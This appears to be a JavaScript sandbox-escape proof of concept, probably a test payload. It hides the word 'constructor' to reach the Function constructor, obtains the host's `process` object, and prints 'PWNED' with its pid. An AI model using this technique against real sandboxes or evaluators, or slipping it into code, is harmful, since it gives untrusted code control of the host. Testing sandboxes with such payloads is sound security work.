'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const m = require('util');
const o = Date.now() > 1 ? m.deprecate(() => t, 'x')() : {};
console.log('PWNED', o.go(fn)('return process')().pid);
